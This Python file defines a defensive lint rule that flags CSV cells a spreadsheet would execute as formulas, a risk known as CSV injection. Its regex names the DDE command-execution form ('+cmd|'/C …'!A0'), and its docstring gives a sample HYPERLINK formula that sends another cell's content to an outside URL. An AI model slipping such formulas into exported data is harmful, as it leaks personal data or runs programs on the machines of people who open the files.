from __future__ import annotations

from collections.abc import Iterator
from typing import ClassVar

import polars as pl

from mkt_lint import Message, Rows, Table, TableRule
from mkt_lint_crm.references import GDPR_SECURITY

_FORMULA = (
    r"^[\t\r\n]*(?:"
    r"[=＝](?:[A-Za-z0-9$@+(\[{'-]|\"[^\"]*\"\s*[^\s\"])"  # =HYPERLINK(…), =1+1, ="a"&b; not ="+33…"
    r"|[@＠][A-Z][A-Z0-9.]+\("  # @SUM(…), and no @handle
    r"|[+＋－-][\s\d.,*/^()+-]*(?:[=@]?[A-Z][A-Z0-9.]+\(|[A-Za-z]+\|.*!)"  # -1+SUM(…), +cmd|'/C …'!A0
    r")"
)
"""What a spreadsheet takes for a formula and runs, rather than all that begins with one of the four signs."""


class FormulaInjection(TableRule):
    """Cells that a spreadsheet would run as formulas.

    ## Why

    Who opens the file in a spreadsheet runs its formulas: they can fetch addresses with the content of other cells, or
    start programs. Forms let anybody write such a text into a CRM. Personal data has to be protected (GDPR article
    32), and OWASP describes the attack as CSV injection.

    Phone numbers, negative numbers, handles (`@jeanne`), bullet points and the quoting `="+33612345678"` are none.

    ## Examples

    ```csv bad
    email,company
    jeanne@example.com,"=HYPERLINK(""https://example.net/?""&A2,""Dupont"")"
    ```

    ```csv good
    email,phone,twitter
    jeanne@example.com,+33 6 12 34 56 78,@jeanne
    ```

    ## When not to use it

    On files that no spreadsheet ever opens. Workbooks and Parquet are left out: there a text is a text.
    """

    confidence = "high"
    references = (GDPR_SECURITY,)
    contacts_only = False
    messages: ClassVar = {
        "formula": Message(
            what="Cells of {column} that a spreadsheet would run as formulas: {count}.",
            why="A formula can send other cells elsewhere or start a program on the computer that opens the file.",
            todo="Put an apostrophe before these cells, and have the program that exports them do so.",
        ),
    }

    def check(self, table: Table) -> Iterator[Rows]:
        if table.dialect.first_column is not None:
            return
        for column in table.columns:
            yield Rows(pl.col(column.text).str.contains(_FORMULA), at=(column,), message="formula")
